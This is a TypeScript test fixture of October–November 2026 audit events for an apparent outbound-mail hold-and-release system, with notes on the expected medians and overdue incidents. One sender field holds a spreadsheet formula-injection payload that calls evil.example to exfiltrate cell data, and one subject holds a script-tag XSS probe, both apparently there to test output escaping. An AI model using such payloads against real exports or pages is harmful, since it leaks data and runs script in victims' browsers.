import type { NewAuditEvent } from '../../src/audit/events.js';

const HOLD_RULES = { rules: ['first-time-domain', 'external-attachment'], clauses: ['遵守事項 第6-1'] };
const verdict = (time: string, type: string, messageId: string, sender: string, extra: Partial<NewAuditEvent> = {}): NewAuditEvent => ({
  time,
  type,
  messageId,
  sender,
  recipients: ['a@partner.example'],
  subject: `subject ${messageId}`,
  action: type === 'held' ? 'hold' : type === 'rejected' ? 'reject' : 'deliver',
  actor: '127.0.0.1',
  ...extra,
});
const decision = (time: string, type: string, messageId: string, actor = 'jiro@example.co.jp'): NewAuditEvent => ({ time, type, messageId, action: type, actor });

/**
 * Events around October 2026 in Japan time (2026-09-30T15:00Z ≤ t < 2026-10-31T15:00Z):
 *
 * - October: 8 message decisions (m1, m2, m3, h1–h5 held), one outbox delivery, holds released
 *   after 1440 min (h0, held in September), 10 min (h1) and 30 min (h2) → median 30; h3
 *   discarded, h4 expired (null sender); incidents i0 (opened in September, reported in October
 *   after 40 min), i1 (42 min), i2 (never reported: overdue), i3 (90 min: late).
 * - November: h5 released after 60 min and h6 after 20 min → median 40 (an even count).
 */
export function monthEvents(): NewAuditEvent[] {
  return [
    verdict('2026-09-30T10:00:00.000Z', 'held', 'h0', 'jiro@example.co.jp', HOLD_RULES),
    verdict('2026-09-30T14:59:59.999Z', 'delivered', 'm0', 'early@september.example'),
    { time: '2026-09-30T14:30:00.000Z', type: 'incident-opened', messageId: 'm0', action: 'manual', actor: 'admin', detail: 'i0' },
    // 2026-10-01 00:00 JST
    verdict('2026-09-30T15:00:00.000Z', 'delivered', 'm1', 'taro@example.co.jp'),
    { time: '2026-09-30T15:10:00.000Z', type: 'incident-reported', messageId: 'm0', action: 'manual', actor: 'admin', detail: 'i0' },
    decision('2026-10-01T10:00:00.000Z', 'released', 'h0'),
    verdict('2026-10-05T01:00:00.000Z', 'encrypted', 'm2', 'Taro@Example.CO.JP', { rules: ['zip-encrypt'], clauses: ['遵守事項 第6-2'] }),
    verdict('2026-10-05T02:00:00.000Z', 'rejected', 'm3', '=HYPERLINK("http://evil.example/?"&A1,"x")', { rules: ['anonymous-recipient'], clauses: ['遵守事項 第6-3'] }),
    verdict('2026-10-10T00:00:00.000Z', 'held', 'h1', 'jiro@example.co.jp', HOLD_RULES),
    decision('2026-10-10T00:10:00.000Z', 'released', 'h1'),
    { time: '2026-10-10T00:10:01.000Z', type: 'delivered', messageId: 'h1', recipients: ['a@partner.example'], action: 'message', actor: 'outbox', detail: 'ref h1' },
    verdict('2026-10-11T00:00:00.000Z', 'held', 'h2', 'jiro@example.co.jp', HOLD_RULES),
    decision('2026-10-11T00:30:00.000Z', 'released', 'h2'),
    verdict('2026-10-12T00:00:00.000Z', 'held', 'h3', 'jiro@example.co.jp', { rules: ['lookalike-domain'], clauses: ['遵守事項 第6-1'] }),
    decision('2026-10-12T01:00:00.000Z', 'discarded', 'h3'),
    verdict('2026-10-13T00:00:00.000Z', 'held', 'h4', '', HOLD_RULES),
    decision('2026-10-14T00:00:00.000Z', 'expired', 'h4', 'deadline'),
    {
      time: '2026-10-20T01:00:00.000Z',
      type: 'incident-opened',
      messageId: 'h3',
      subject: '<script>alert(1)</script>',
      action: 'mistake',
      actor: 'jiro@example.co.jp',
      detail: 'i1',
    },
    { time: '2026-10-20T01:42:00.000Z', type: 'incident-reported', messageId: 'h3', action: 'notice', actor: 'outguard (for jiro@example.co.jp)', detail: 'i1' },
    { time: '2026-10-25T03:00:00.000Z', type: 'incident-opened', messageId: 'm3', action: 'rule', actor: 'gateway', detail: 'i2' },
    { time: '2026-10-26T00:00:00.000Z', type: 'incident-opened', action: 'manual', actor: 'admin', detail: 'i3' },
    { time: '2026-10-26T01:30:00.000Z', type: 'incident-reported', action: 'manual', actor: 'admin', detail: 'i3' },
    verdict('2026-10-31T14:00:00.000Z', 'held', 'h5', 'jiro@example.co.jp', HOLD_RULES),
    // 2026-11-01 00:00 JST
    decision('2026-10-31T15:00:00.000Z', 'released', 'h5'),
    verdict('2026-11-02T00:00:00.000Z', 'held', 'h6', 'jiro@example.co.jp', HOLD_RULES),
    decision('2026-11-02T00:20:00.000Z', 'released', 'h6'),
  ];
}

/** When the reports in the tests are made: i2 (opened 2026-10-25) is long overdue by then. */
export const REPORT_TIME = Date.parse('2026-11-03T00:00:00.000Z');
